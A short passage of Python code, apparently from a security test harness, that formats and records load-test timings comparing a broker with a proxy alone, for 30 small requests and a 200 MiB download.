    text = (f"per request (new connection, median of {n}): broker {med_b * 1000:.0f} ms, "
            f"proxy alone {med_d * 1000:.0f} ms; 200 MiB: broker {float(sb):.1f} s, "
            f"proxy alone {float(sd):.1f} s")
    print(text)
    security_report.load(
        "load: broker", "30 small requests and one 200 MiB download, bound host vs unbound",
        expected="all complete; the broker's cost measured", observed=text,
        ok=int(size_b) == int(size_d) == 200 << 20,
        request_ms_broker=med_b * 1000, request_ms_proxy=med_d * 1000,
        download_s_broker=float(sb), download_s_proxy=float(sd),
    )
